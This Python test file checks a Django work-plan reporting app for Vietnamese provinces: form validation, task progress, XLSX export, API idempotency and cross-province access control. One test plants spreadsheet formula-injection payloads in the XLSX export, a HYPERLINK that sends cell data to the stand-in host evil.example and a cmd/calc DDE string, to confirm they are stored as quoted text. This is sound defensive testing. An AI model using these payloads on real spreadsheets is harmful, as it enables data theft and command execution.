"""Plans through the pages and the API: a plan recorded on the page (a bad period refused beside its field, what
was typed kept), a task added and the plan issued, the detail page's implementation table by assignee, progress
reported on the form, the XLSX of the table, idempotent creation and 409 on a stale version through the API, the
overdue tasks on the to-do list — and an officer of another province getting 404 everywhere."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from django.urls import reverse

from danvan.core.todo import todo_for
from danvan.reporting import plan_todo  # noqa: F401  (registers the to-do entries)
from danvan.reporting.models import Plan, TaskProgress, TaskTarget
from danvan.reporting.tests.plan_fixtures import kind, org, province_plan

API = "/api/v1/reporting"


@pytest.fixture
def today(time_machine):
    time_machine.move_to(dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC), tick=False)
    return dt.date(2026, 3, 2)


def test_recording_a_plan_on_the_page_adding_a_task_and_issuing_it(client, cast, today):
    client.force_login(cast.carol)
    url = reverse("reporting:plan_create")
    assert client.get(url).status_code == 200
    base = {
        "unit": cast.dak_lak.pk,
        "issuer": org(cast.dak_lak, "mobilization_board").pk,
        "number": "Số: 394-KH/BDVTU",
        "issued_on": "15/01/2026",
        "period_start": "01/06/2026",
        "period_end": "01/01/2026",
        "title": "Thực hiện công tác dân vận năm 2026",
        "submission_key": "p1",
    }
    bad = client.post(url, base)
    assert bad.status_code == 422
    text = bad.content.decode()
    assert 'id="id_period_end-error"' in text and 'value="Thực hiện công tác dân vận năm 2026"' in text
    assert not Plan.objects.exists()
    done = client.post(url, {**base, "period_start": "01/01/2026", "period_end": "31/12/2026"})
    plan = Plan.objects.get()
    assert done.status_code == 302 and done["Location"] == reverse("reporting:plan_detail", args=[plan.pk])
    assert plan.number == "394-KH/BDVTU"

    no_assignee = client.post(
        reverse("reporting:plan_task_add", args=[plan.pk]),
        {"version": plan.version, "text": "Đối thoại", "deadline": "30/06/2026", "level": "commune"},
    )
    assert no_assignee.status_code == 422 and 'id="task_kinds-error"' in no_assignee.content.decode()
    added = client.post(
        reverse("reporting:plan_task_add", args=[plan.pk]),
        {
            "version": plan.version,
            "text": "Tổ chức đối thoại với Nhân dân",
            "deadline": "30/06/2026",
            "expected_output": "Báo cáo",
            "kinds": [kind("peoples_committee").pk],
            "level": "commune",
        },
    )
    assert added.status_code == 302
    plan.refresh_from_db()
    issued = client.post(reverse("reporting:plan_issue", args=[plan.pk]), {"version": plan.version})
    assert issued.status_code == 302
    plan.refresh_from_db()
    assert plan.status == "issued" and TaskTarget.objects.filter(task__plan=plan).count() > 50
    page = client.get(reverse("reporting:plan_detail", args=[plan.pk])).content.decode()
    assert "Tổ chức đối thoại với Nhân dân" in page and "Ủy ban nhân dân các xã, phường" in page
    assert f'id="org-{org(cast.dong_xuan).pk}"' in page
    listed = client.get(reverse("reporting:plan_list"), {"q": "dan van"}).content.decode()
    assert f'id="plan-{plan.pk}"' in listed


def test_reporting_progress_on_the_form_and_the_commune_sees_only_its_own_rows(client, cast, today):
    plan = province_plan(cast)
    target = TaskTarget.objects.get(task__plan=plan, task__number=1, organization=org(cast.dong_xuan))
    client.force_login(cast.alice)
    detail = client.get(reverse("reporting:plan_detail", args=[plan.pk])).content.decode()
    assert f'id="org-{org(cast.dong_xuan).pk}"' in detail
    assert f'id="org-{org(cast.buon_ma_thuot).pk}"' not in detail  # another commune's row
    url = reverse("reporting:plan_progress", args=[target.pk])
    bad = client.post(url, {"version": 1, "percent": "150", "text": "Đã làm"})
    assert bad.status_code == 422
    assert 'id="progress_percent-error"' in bad.content.decode() and "Đã làm" in bad.content.decode()
    done = client.post(url, {"version": 1, "percent": "40", "text": "Đã tổ chức 1 buổi"})
    assert done.status_code == 302
    target.refresh_from_db()
    assert target.percent == 40
    stale = client.post(url, {"version": 1, "percent": "60", "text": "Lần hai"})
    assert stale.status_code == 422 and "tải lại trang" in stale.content.decode()
    page = client.get(url).content.decode()
    assert "Đã tổ chức 1 buổi" in page and 'id="target-percent">40%' in page
    # bob reads the plan but may not report for Đồng Xuân
    client.force_login(cast.bob)
    assert client.post(url, {"version": 2, "percent": "60", "text": "x"}).status_code == 404
    assert TaskProgress.objects.count() == 1


def test_the_implementation_table_downloads_as_xlsx(client, cast, today):
    plan = province_plan(cast)
    client.force_login(cast.carol)
    response = client.get(reverse("reporting:plan_export", args=[plan.pk]))
    assert response.status_code == 200
    book = openpyxl.load_workbook(
        io.BytesIO(b"".join(response.streaming_content if response.streaming else [response.content]))
    )
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert "394-KH/BDVTU" in rows[0][0]
    assert any(row[4] == org(cast.dong_xuan).name and row[0] == 1 for row in rows[4:])
    grid = list(book.worksheets[1].iter_rows(values_only=True))
    assert grid[2][:3] == ("STT", "Nhiệm vụ", "Thời hạn") and len(grid) == 3 + 2


def test_the_implementation_table_writes_hostile_text_as_text(client, cast, today):
    """A plan's title and a task's text typed as formulas stay text in the XLSX (core.xlsx quotes them)."""
    plan = province_plan(cast)
    Plan.objects.filter(pk=plan.pk).update(title='=HYPERLINK("http://evil.example/?d="&A1,"Xem")')
    plan.tasks.filter(number=1).update(text="+1+cmd|' /C calc'!A0")
    client.force_login(cast.carol)
    response = client.get(reverse("reporting:plan_export", args=[plan.pk]))
    book = openpyxl.load_workbook(
        io.BytesIO(b"".join(response.streaming_content if response.streaming else [response.content]))
    )
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    hostile = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+"]
    assert {cell.value for cell in hostile} >= {
        '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
        "+1+cmd|' /C calc'!A0",
    }
    assert all(cell.quotePrefix for cell in hostile)


def test_the_api_creates_idempotently_reports_progress_and_answers_409_when_stale(client, cast, today):
    client.force_login(cast.carol)
    body = {
        "unit_id": cast.dak_lak.pk,
        "issuer_id": org(cast.dak_lak, "mobilization_board").pk,
        "number": "394-KH/BDVTU",
        "issued_on": "2026-01-15",
        "period_start": "2026-01-01",
        "period_end": "2026-12-31",
        "title": "Kế hoạch năm 2026",
    }
    created = client.post(f"{API}/plans", body, content_type="application/json", HTTP_IDEMPOTENCY_KEY="a1")
    assert created.status_code == 201, created.json()
    again = client.post(f"{API}/plans", body, content_type="application/json", HTTP_IDEMPOTENCY_KEY="a1")
    assert again.status_code == 200 and again.json()["id"] == created.json()["id"]
    plan_id = created.json()["id"]
    backwards = client.post(
        f"{API}/plans", {**body, "number": "395-KH/BDVTU", "period_end": "2025-01-01"}, content_type="application/json"
    )
    assert backwards.status_code == 422 and backwards.json()["code"] == "period_ends_before_start"
    task = client.post(
        f"{API}/plans/{plan_id}/tasks",
        {
            "text": "Xây dựng mô hình dân vận khéo",
            "deadline": "2026-09-30",
            "assignees": [{"org_kind": "party_committee", "unit_id": cast.dong_xuan.pk, "level": "unit"}],
        },
        content_type="application/json",
    )
    assert task.status_code == 201, task.json()
    outside = client.post(
        f"{API}/plans/{plan_id}/tasks",
        {"text": "x", "deadline": "2026-09-30", "assignees": [{"organization_id": org(cast.ba_dinh).pk}]},
        content_type="application/json",
    )
    assert outside.status_code == 422 and outside.json()["code"] == "assignee_outside_plan"
    version = client.get(f"{API}/plans/{plan_id}").json()["version"]
    issued = client.post(f"{API}/plans/{plan_id}/issue", {"expected_version": version}, content_type="application/json")
    assert issued.status_code == 200 and issued.json()["status"] == "issued"
    stale = client.post(f"{API}/plans/{plan_id}/close", {"expected_version": version}, content_type="application/json")
    assert stale.status_code == 409 and stale.json()["code"] == "stale"
    table = client.get(f"{API}/plans/{plan_id}/table").json()
    assert [c["organization_id"] for c in table["columns"]] == [org(cast.dong_xuan, "party_committee").pk]
    target_id = table["rows"][0]["cells"][0]["target_id"]

    # Đồng Xuân's officers are members of its UBND, not of its Party committee: alice reports as an officer there
    client.force_login(cast.alice)
    mine = client.get(f"{API}/plan-tasks/mine").json()
    assert [item["id"] for item in mine["items"]] == [target_id]
    progress = {"percent": 100, "text": "Đã xây dựng mô hình", "expected_version": 1}
    reported = client.post(
        f"{API}/plan-targets/{target_id}/progress", progress, content_type="application/json", HTTP_IDEMPOTENCY_KEY="r1"
    )
    assert reported.status_code == 201, reported.json()
    replay = client.post(
        f"{API}/plan-targets/{target_id}/progress", progress, content_type="application/json", HTTP_IDEMPOTENCY_KEY="r1"
    )
    assert replay.status_code == 200 and replay.json()["id"] == reported.json()["id"]
    late = client.post(f"{API}/plan-targets/{target_id}/progress", progress, content_type="application/json")
    assert late.status_code == 409 and late.json()["code"] == "stale"
    assert client.get(f"{API}/plan-targets/{target_id}").json()["percent"] == 100


def test_another_provinces_officer_gets_404_everywhere(client, cast, today):
    plan = province_plan(cast)
    target = TaskTarget.objects.get(task__plan=plan, task__number=1, organization=org(cast.dong_xuan))
    client.force_login(cast.frank)
    for url in (
        reverse("reporting:plan_detail", args=[plan.pk]),
        reverse("reporting:plan_export", args=[plan.pk]),
        reverse("reporting:plan_progress", args=[target.pk]),
        f"{API}/plans/{plan.pk}",
        f"{API}/plans/{plan.pk}/table",
        f"{API}/plan-targets/{target.pk}",
    ):
        assert client.get(url).status_code == 404, url
    assert client.post(reverse("reporting:plan_issue", args=[plan.pk]), {"version": 1}).status_code == 404
    assert (
        client.post(
            f"{API}/plan-targets/{target.pk}/progress",
            {"percent": 10, "text": "x"},
            content_type="application/json",
        ).status_code
        == 404
    )
    listed = client.get(reverse("reporting:plan_list")).content.decode()
    assert f'id="plan-{plan.pk}"' not in listed


def test_overdue_tasks_show_on_the_to_do_list(client, cast, time_machine):
    province_plan(cast, deadline=dt.date(2026, 3, 31))
    time_machine.move_to(dt.datetime(2026, 3, 27, 9, 0, tzinfo=dt.UTC), tick=False)
    items = {item.key: item for item in todo_for(cast.alice)}
    assert items["plan_tasks_due_soon"].count == 1 and "plan_tasks_overdue" not in items
    time_machine.move_to(dt.datetime(2026, 4, 2, 9, 0, tzinfo=dt.UTC), tick=False)
    items = {item.key: item for item in todo_for(cast.alice)}
    overdue = items["plan_tasks_overdue"]
    assert overdue.count == 1 and overdue.url.endswith("?state=overdue") and overdue.tone == "overdue"
    client.force_login(cast.alice)
    page = client.get(overdue.url).content.decode()
    assert "Tổ chức đối thoại với Nhân dân" in page and "Quá hạn" in page


def test_the_lists_and_the_table_take_the_same_queries_however_many_rows(client, cast, today):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from danvan.reporting import plan_services as services

    plan = province_plan(cast)
    client.force_login(cast.carol)
    urls = [f"{API}/plans", f"{API}/plans/{plan.pk}/table", reverse("reporting:plan_detail", args=[plan.pk])]
    before = []
    for url in urls:
        client.get(url)  # warm the session and caches
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        before.append(len(queries))
    services.task_add(
        actor=cast.carol,
        plan=plan,
        text="Nhiệm vụ thêm",
        deadline=dt.date(2026, 8, 31),
        assignees=[services.AssigneeSpec(org_kind=kind("womens_union"))],
    )
    province_plan(cast, number="395-KH/BDVTU")
    after = []
    for url in urls:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        after.append(len(queries))
    assert after == before


def test_a_plans_attachment_is_read_by_those_who_read_the_plan(client, cast, today, settings, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MEDIA_ROOT = tmp_path
    settings.STORAGES = {**settings.STORAGES, "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"}}
    plan = province_plan(cast)
    client.force_login(cast.carol)
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    done = client.post(
        reverse("reporting:plan_attach", args=[plan.pk]),
        {"file": SimpleUploadedFile("ke-hoach-394.pdf", pdf, content_type="application/pdf")},
    )
    assert done.status_code == 302
    page = client.get(reverse("reporting:plan_detail", args=[plan.pk])).content.decode()
    assert "ke-hoach-394.pdf" in page
    from danvan.core.models import Attachment

    attachment = Attachment.objects.get(object_type="reporting.plan")
    url = reverse("reporting:plan_file", args=[attachment.pk])
    client.force_login(cast.alice)  # assigned a task: reads the plan and its attachment
    response = client.get(url)
    assert response.status_code == 200 and b"".join(response.streaming_content) == pdf
    assert client.post(reverse("reporting:plan_attach", args=[plan.pk]), {}).status_code == 404  # not its writer
    client.force_login(cast.frank)
    assert client.get(url).status_code == 404
    xlsx = client.get(f"{API}/plans/{plan.pk}/table.xlsx")
    assert xlsx.status_code == 404
    client.force_login(cast.carol)
    assert client.get(f"{API}/plans/{plan.pk}/table.xlsx").status_code == 200


def test_editing_a_task_on_the_page_keeps_what_was_typed_when_refused(client, cast, today):
    plan = province_plan(cast)
    task = plan.tasks.get(number=1)
    client.force_login(cast.carol)
    url = reverse("reporting:plan_task_edit", args=[task.pk])
    prefix = f"t{task.pk}"
    early = client.post(
        url, {f"{prefix}-version": 1, f"{prefix}-text": "Đối thoại mới", f"{prefix}-deadline": "01/01/2025"}
    )
    assert early.status_code == 422
    text = early.content.decode()
    assert f'id="id_{prefix}-deadline-error"' in text and "Đối thoại mới" in text
    done = client.post(
        url, {f"{prefix}-version": 1, f"{prefix}-text": "Đối thoại mới", f"{prefix}-deadline": "31/07/2026"}
    )
    assert done.status_code == 302
    task.refresh_from_db()
    assert task.deadline == dt.date(2026, 7, 31) and task.text == "Đối thoại mới"
    stale = client.post(url, {f"{prefix}-version": 1, f"{prefix}-text": "x", f"{prefix}-deadline": "31/07/2026"})
    assert stale.status_code == 422 and "tải lại trang" in stale.content.decode()
    client.force_login(cast.alice)
    assert client.post(url, {f"{prefix}-version": 2}).status_code == 404


def test_progress_with_evidence_through_the_api(client, cast, today):
    """A commune reports progress with a file of evidence (multipart), idempotently; the file is the real upload,
    read back by those who read the plan; a file that is not a document is refused with its field named."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    plan = province_plan(cast)
    target = TaskTarget.objects.get(task__plan=plan, task__number=1, organization=org(cast.dong_xuan))
    url = f"{API}/plan-targets/{target.pk}/progress-with-evidence"
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

    def send(content: bytes, name: str = "bien-ban.pdf", key: str = "e1", percent: str = "50") -> Any:
        upload = SimpleUploadedFile(name, content, "application/pdf")
        data = {"percent": percent, "text": "Đã tổ chức hội nghị", "expected_version": "1", "evidence": upload}
        return client.post(url, data, HTTP_IDEMPOTENCY_KEY=key)

    client.force_login(cast.alice)
    refused = send(b"MZ\x90\x00 not a document", name="virus.exe", key="bad")
    assert refused.status_code == 415 and refused.json()["code"] and refused.json()["message"]
    assert TaskProgress.objects.count() == 0
    assert send(pdf, percent="150", key="big").status_code == 422

    created = send(pdf)
    assert created.status_code == 201, created.json()
    evidence_id = created.json()["evidence_id"]
    assert evidence_id is not None and created.json()["percent"] == 50
    replay = send(pdf)
    assert replay.status_code == 200 and replay.json()["id"] == created.json()["id"]
    assert send(pdf + b" ", key="e1").status_code == 422  # the same key with another file
    assert TaskProgress.objects.count() == 1

    download = client.get(f"/api/v1/attachments/{evidence_id}/download")
    assert download.status_code == 200 and b"".join(download.streaming_content) == pdf
    client.force_login(cast.carol)  # the province that issued the plan reads the evidence
    assert client.get(f"/api/v1/attachments/{evidence_id}/download").status_code == 200
    client.force_login(cast.frank)  # another province: neither the report nor the file
    assert client.get(f"/api/v1/attachments/{evidence_id}/download").status_code == 404
    assert send(pdf, key="f1").status_code == 404
